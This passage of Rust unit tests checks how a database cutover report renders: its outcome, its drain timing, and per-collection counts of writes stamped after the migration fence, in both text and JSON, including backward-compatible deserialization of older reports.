        };
        let t = render(&r);
        assert!(t.contains("SUCCESSFUL") && t.contains("drain") && t.contains("1.500s"), "{t}");
    }

    /// A report of writes after the fence names each collection with its counts, in text
    /// and JSON; an older report without the field still reads.
    #[test]
    fn report_names_fence_breaches() {
        let b = FenceBreach { writes: 4, inserted_rows: 20, deleted_rows: 20, first_ts: 1 << 18 };
        let r = CutoverReport { outcome: "aborted".into(), fence_breaches: [("orders".to_string(), b)].into(), ..Default::default() };
        let t = render(&r);
        assert!(t.contains("collection orders: 4 writes stamped after the fence (20 rows inserted, 20 deleted"), "{t}");
        let json = serde_json::to_value(&r).unwrap();
        assert_eq!(json["fence_breaches"]["orders"]["writes"], 4);
        let mut old = json;
        old.as_object_mut().unwrap().remove("fence_breaches");
        assert!(serde_json::from_value::<CutoverReport>(old).unwrap().fence_breaches.is_empty());
    }
}
